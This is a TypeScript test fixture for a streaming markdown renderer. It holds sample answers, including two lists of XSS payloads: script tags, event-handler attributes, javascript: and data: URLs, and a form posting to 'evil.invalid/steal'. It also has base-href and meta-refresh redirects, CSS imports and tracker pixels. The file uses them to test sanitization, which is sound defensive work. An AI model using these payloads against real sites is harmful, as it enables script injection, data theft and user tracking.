// Answers used by the markdown specs and the screenshot script: a rich answer, an XSS payload and a
// long answer with a big code fence. Deterministic, so runs and screenshots are comparable.

export const RICH_CODE = [
  'interface Chunk {',
  '  seq: number;',
  '  text: string;',
  '}',
  '',
  '/** Joins the chunks received so far. */',
  'export function join(chunks: Chunk[]): string {',
  "  return chunks.map((c) => c.text).join('');",
  '}',
].join('\n');

export const RICH_ANSWER = [
  '## Streaming renderer — status',
  '',
  'Kaiwa renders **markdown** as it streams, with `inline code`, ~~a naive renderer~~ a block renderer and links such as [the docs](https://example.com/docs?page=1).',
  '',
  '| Step | Work per chunk | Done |',
  '|:-----|:--------------:|-----:|',
  '| Split into blocks | new text only | ✓ |',
  '| Parse the tail | one block | ✓ |',
  '| Highlight code | 32-line groups | ✓ |',
  '',
  '- [x] Tables and task lists',
  '- [x] Strikethrough',
  '- [ ] Footnotes',
  '  - nested item',
  '    1. deeper, numbered',
  '',
  '> Model output is untrusted: it is never inserted as HTML.',
  '',
  '```ts',
  RICH_CODE,
  '```',
  '',
  'Inline math: the energy is $E = mc^2$, and for a circle \\(A = \\pi r^2\\). Display math:',
  '',
  '$$',
  '\\int_0^1 x^2\\,dx = \\frac{1}{3}',
  '$$',
  '',
  '日本語の段落もそのまま表示されます。中文段落也一样。',
].join('\n');

export const XSS_ANSWER = [
  'Here is some HTML, which must stay text:',
  '',
  '<script>window.__pwned=1</script>',
  '',
  'An image: <img src=x onerror="window.__pwned=1"> and an svg <svg onload="window.__pwned=1"></svg>',
  '',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '',
  '<style>body{display:none}</style>',
  '',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>',
  '',
  'Links: [click me](javascript:window.__pwned=1) and [data link](data:text/html,<script>parent.__pwned=1</script>) and [vb](vbscript:msgbox(1)).',
  '',
  '![pixel](https://tracker.invalid/p.png)',
  '',
  'Math that tries a link: $\\href{javascript:window.__pwned=1}{x}$',
].join('\n');

/**
 * More untrusted output: markup that is not script but still acts (submits, navigates, re-bases
 * links, loads styles, embeds documents), SVG with a script inside, and URL tricks in markdown
 * itself. Every host is under `.invalid`, so nothing could leave the machine even if it rendered.
 */
export const XSS_MORE = [
  'More HTML that must stay text:',
  '',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=2</script><circle r="9" onclick="window.__pwned=2"/></svg>',
  '',
  '<object data="javascript:window.__pwned=3"></object> <embed src="data:text/html,<script>parent.__pwned=4</script>">',
  '',
  '<form action="https://evil.invalid/steal" method="post"><input name="k" value="x"><button>Send it</button></form>',
  '',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '',
  '<base href="https://evil.invalid/">',
  '',
  '<style>@import url("https://evil.invalid/x.css"); body { display: none }</style>',
  '',
  '<link rel="stylesheet" href="https://evil.invalid/y.css"> <iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
  '',
  '<details open ontoggle="window.__pwned=6"><summary>toggle</summary></details> <a href="javascript:window.__pwned=7">raw anchor</a>',
  '',
  'Markdown tricks: ![img js](javascript:window.__pwned=8) and [entity js](jav&#x61;script:window.__pwned=9) and <javascript:window.__pwned=10> and [ref js][r].',
  '',
  '[r]: javascript:window.__pwned=11',
  '',
  'A relative link [here](/?token=steal) and ![tracker](https://tracker.invalid/t.gif).',
].join('\n');

/** A long answer (~60 KB): prose, a list, a table and a 600-line TypeScript fence in the middle. */
export function longAnswer(): string {
  const prose = (i: number) =>
    `Paragraph ${i}: streaming must stay smooth however long the answer grows, so each frame only touches the text that is new — 会話は長くなっても滑らかに表示されます。`;
  const parts: string[] = ['# A long answer', ''];
  for (let i = 0; i < 40; i++) parts.push(prose(i), '');
  parts.push('- first point', '  - nested point', '- second point', '');
  parts.push('| n | square |', '|--:|-------:|');
  for (let i = 1; i <= 30; i++) parts.push(`| ${i} | ${i * i} |`);
  parts.push('', '```ts');
  for (let i = 0; i < 600; i++) {
    parts.push(i % 50 === 0 ? `/* block ${i}: a comment` : i % 50 === 1 ? `   that spans two lines */` : `export const value${i}: number = compute(${i}, 'label ${i}'); // ${i}`);
  }
  parts.push('```', '');
  for (let i = 40; i < 120; i++) parts.push(prose(i), '');
  parts.push('The end, with $x^2$ math.');
  return parts.join('\n');
}
